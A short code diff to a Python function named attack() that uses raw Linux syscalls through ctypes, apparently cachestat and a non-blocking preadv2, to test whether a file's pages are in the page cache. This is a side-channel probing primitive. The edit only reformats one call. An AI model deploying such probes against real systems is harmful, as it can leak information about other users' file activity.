@@ -24,7 +24,10 @@ def attack():
         counted = (ctypes.c_uint64 * 5)()
         if libc.syscall(451, file.fileno(), asked, counted, 0) == 0:
             return True
-        return libc.syscall(327 if X86 else 286, file.fileno(), ctypes.byref(piece), 1, 0, 0, 8) >= 0
+        return (
+            libc.syscall(327 if X86 else 286, file.fileno(), ctypes.byref(piece), 1, 0, 0, ctypes.c_long(8))
+            >= 0
+        )
 
 
 try:
